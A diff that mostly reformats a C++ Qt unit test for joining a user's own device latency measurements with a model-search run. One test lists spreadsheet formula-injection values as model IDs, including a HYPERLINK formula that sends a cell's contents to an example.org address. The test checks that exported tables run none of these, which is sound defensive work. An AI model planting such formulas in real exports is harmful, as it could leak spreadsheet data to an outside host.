@@ -1,9 +1,9 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 // Own measurements joined with a run: a further target a device, everything the run states untouched.
-#include "decode/owntargets.h"
 #include "core/trainingrunbuilder.h"
 #include "decode/csvtable.h"
 #include "decode/measurementsreader.h"
+#include "decode/owntargets.h"
 #include "decode/resultsdecoder.h"
 #include "decode/tabletofillin.h"
 
@@ -14,7 +14,8 @@ using namespace Qt::StringLiterals;
 
 namespace {
 
-const QByteArray body = R"body({"status":"finished","jobType":"nas","recommendedByHardware":{"T4":"acme/b/5/c1"},"models":[
+const QByteArray body =
+    R"body({"status":"finished","jobType":"nas","recommendedByHardware":{"T4":"acme/b/5/c1"},"models":[
  {"modelId":"acme/b/5/c1","nasFamily":"child","metrics":{"map5095":50,"latency":{"T4":1.5,"x, FP16 (own)":2}}},
  {"modelId":"acme/b/5/c2","nasFamily":"child","metrics":{"map5095":60,"latency":{"T4":3}}},
  {"modelId":"acme/b/5/c3","nasFamily":"child","metrics":{"map5095":70,"latency":{}}}]})body";
@@ -67,9 +68,33 @@ private Q_SLOTS:
     }
     void tableToFillIn_runsNothing_andComesBack_whateverModelsAreCalled()
     {
-        const QStringList ids{u"=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"_s, u"+1+1"_s, u"-1-1"_s, u"@SUM(1+1)"_s, u"'quoted"_s,
-                              u"=x"_s, u"\t=1"_s, u"a\tb"_s, u"a b"_s, u"a\nb"_s, u"a\r\nb"_s, u"\n#x"_s, u"#remark"_s, u"a\"b"_s, u"\""_s, u"\"a\""_s,
-                              u"a,b;c"_s, u" a"_s, u"a "_s, u"a"_s, u"\u00a0a"_s, u"007"_s, u"1e5"_s, u"＝1"_s, u"a\u202eb"_s, u"\ufffea"_s, u"é-🚀"_s,
+        const QStringList ids{u"=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"_s,
+                              u"+1+1"_s,
+                              u"-1-1"_s,
+                              u"@SUM(1+1)"_s,
+                              u"'quoted"_s,
+                              u"=x"_s,
+                              u"\t=1"_s,
+                              u"a\tb"_s,
+                              u"a b"_s,
+                              u"a\nb"_s,
+                              u"a\r\nb"_s,
+                              u"\n#x"_s,
+                              u"#remark"_s,
+                              u"a\"b"_s,
+                              u"\""_s,
+                              u"\"a\""_s,
+                              u"a,b;c"_s,
+                              u" a"_s,
+                              u"a "_s,
+                              u"a"_s,
+                              u"\u00a0a"_s,
+                              u"007"_s,
+                              u"1e5"_s,
+                              u"＝1"_s,
+                              u"a\u202eb"_s,
+                              u"\ufffea"_s,
+                              u"é-🚀"_s,
                               QString(5000, u'x')};
         TrainingRunBuilder builder;
         builder.target(u"T4");
@@ -93,7 +118,8 @@ private Q_SLOTS:
         const JoinedRun joined = withOwnTargets(*run, read->rows);
         for (qsizetype row = 0; row < ids.size(); ++row)
             QCOMPARE(joined.run->latency(static_cast<Row>(row), 1).value, static_cast<double>(row) + 1.5);
-        QCOMPARE(withOwnTargets(*run, {measured(u"=x"_s, u"Orin"_s, 3)}).run->latency(5, 1).value, 3.0); // where it lost its apostrophe
+        QCOMPARE(withOwnTargets(*run, {measured(u"=x"_s, u"Orin"_s, 3)}).run->latency(5, 1).value,
+                 3.0); // where it lost its apostrophe
     }
     void cellThatIsAlsoAnotherModelsId_joinsNeither()
     {
@@ -104,7 +130,8 @@ private Q_SLOTS:
     }
     void formerIds_joinInTheSampleAlone()
     {
-        const QByteArray models = R"("models":[{"modelId":"falls-acme-1-t1--00ba18","metrics":{"map5095":50,"latency":{"T4":1.5}}},
+        const QByteArray models =
+            R"("models":[{"modelId":"falls-acme-1-t1--00ba18","metrics":{"map5095":50,"latency":{"T4":1.5}}},
             {"modelId":"falls-acme-1-t1--8cabaa","metrics":{"map5095":60,"latency":{"T4":3}}}]})";
         const std::vector<OwnMeasurement> rows{measured(u"falls-before-1-t1--8cabaa"_s, u"Orin"_s, 4.5),
                                                measured(u"stairs-before-1-t1--00ba18"_s, u"Orin"_s, 9)};
@@ -135,10 +162,12 @@ private Q_SLOTS:
     }
     void conditions_makeTargets_namesCompareFolded()
     {
-        const JoinedRun joined = withOwnTargets(
-            *statedRun(), {measured(u"c1"_s, u"Orin"_s, 1, {}, u"FP16"_s, 1), measured(u"c2"_s, u"orin"_s, 2, {}, u"fp16"_s, 1),
-                           measured(u"c1"_s, u"Orin"_s, 3, {}, u"FP16"_s, 8), measured(u"c1"_s, u"Orin"_s, 4)});
-        QCOMPARE(targetsOf(*joined.run).mid(2), QStringList({u"Orin, FP16, batch 1 (own)"_s, u"Orin, FP16, batch 8 (own)"_s, u"Orin (own)"_s}));
+        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c1"_s, u"Orin"_s, 1, {}, u"FP16"_s, 1),
+                                                               measured(u"c2"_s, u"orin"_s, 2, {}, u"fp16"_s, 1),
+                                                               measured(u"c1"_s, u"Orin"_s, 3, {}, u"FP16"_s, 8),
+                                                               measured(u"c1"_s, u"Orin"_s, 4)});
+        QCOMPARE(targetsOf(*joined.run).mid(2),
+                 QStringList({u"Orin, FP16, batch 1 (own)"_s, u"Orin, FP16, batch 8 (own)"_s, u"Orin (own)"_s}));
         QCOMPARE(joined.run->measuredCount(2), 2U);
     }
     void aNameThatTheRunHas_isMadeAnother()
@@ -149,30 +178,39 @@ private Q_SLOTS:
     }
     void repeats_countByTheirMedian()
     {
-        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c1"_s, u"Orin"_s, 9, 10, {}, {}, 4), measured(u"c1"_s, u"Orin"_s, 1, {}, {}, {}, 5),
-                                                               measured(u"c1"_s, u"Orin"_s, 2, 20, {}, {}, 6), measured(u"c2"_s, u"Orin"_s, 4, {}, {}, {}, 7),
+        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c1"_s, u"Orin"_s, 9, 10, {}, {}, 4),
+                                                               measured(u"c1"_s, u"Orin"_s, 1, {}, {}, {}, 5),
+                                                               measured(u"c1"_s, u"Orin"_s, 2, 20, {}, {}, 6),
+                                                               measured(u"c2"_s, u"Orin"_s, 4, {}, {}, {}, 7),
                                                                measured(u"c2"_s, u"Orin"_s, 6, {}, {}, {}, 8)});
         QCOMPARE(joined.run->latency(0, 2).value, 2.0);
         QCOMPARE(joined.run->p99(0, 2).value, 15.0);
         QCOMPARE(joined.run->latency(1, 2).value, 5.0);
         QCOMPARE(joined.findings.size(), 2);
-        QCOMPARE(joined.findings.at(0), (Finding{Severity::Info, u"own measurements, line 4"_s, u"acme/b/5/c1 was measured 3 times there; the median counts."_s}));
+        QCOMPARE(joined.findings.at(0), (Finding{Severity::Info, u"own measurements, line 4"_s,
+                                                 u"acme/b/5/c1 was measured 3 times there; the median counts."_s}));
     }
     void modelsTheRunDoesNotHave_areNamed()
     {
-        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c9"_s, u"Orin"_s, 1, {}, {}, {}, 3), measured(u"c1"_s, u"Orin"_s, 1)});
+        const JoinedRun joined = withOwnTargets(
+            *statedRun(), {measured(u"c9"_s, u"Orin"_s, 1, {}, {}, {}, 3), measured(u"c1"_s, u"Orin"_s, 1)});
         QCOMPARE(joined.joined, 1U);
-        QCOMPARE(joined.findings, Findings({{Severity::Warning, u"own measurements, line 3"_s, u"The run lists no such model, or several: \"c9\"."_s}}));
+        QCOMPARE(joined.findings, Findings({{Severity::Warning, u"own measurements, line 3"_s,
+                                             u"The run lists no such model, or several: \"c9\"."_s}}));
         QCOMPARE(withOwnTargets(*statedRun(), {measured(u"c9"_s, u"Orin"_s, 1)}).run->targetCount(), 2);
     }
     void models_joinByWhatPeopleWriteOfTheirIds()
     {
         TrainingRunBuilder builder;
-        for (const char *const id : {"a/b/5/run-t1--56f9a6", "a/b/5/run-t1--00ba18", "x/run-t2--00ba18", "alone--", "56f9a7"})
+        for (const char *const id :
+             {"a/b/5/run-t1--56f9a6", "a/b/5/run-t1--00ba18", "x/run-t2--00ba18", "alone--", "56f9a7"})
             builder.addModel(id);
         const TrainingRunPtr run = builder.finish();
-        const auto joins = [&run](const QString &text) { return withOwnTargets(*run, {measured(text, u"D"_s, 1)}).joined == 1; };
-        for (const QString &text : {u"a/b/5/run-t1--56f9a6"_s, u"run-t1--56f9a6"_s, u"56f9a6"_s, u"elsewhere/56f9a6"_s, u"run-t2--00ba18"_s, u"alone--"_s, u"56f9a7"_s})
+        const auto joins = [&run](const QString &text) {
+            return withOwnTargets(*run, {measured(text, u"D"_s, 1)}).joined == 1;
+        };
+        for (const QString &text : {u"a/b/5/run-t1--56f9a6"_s, u"run-t1--56f9a6"_s, u"56f9a6"_s, u"elsewhere/56f9a6"_s,
+                                    u"run-t2--00ba18"_s, u"alone--"_s, u"56f9a7"_s})
             QVERIFY2(joins(text), qPrintable(text));
         for (const QString &text : {u"00ba18"_s, u"f9a6"_s, u"run-t1"_s, u"t1--56f9a6"_s, u"--56f9a6"_s})
             QVERIFY2(!joins(text), qPrintable(text));
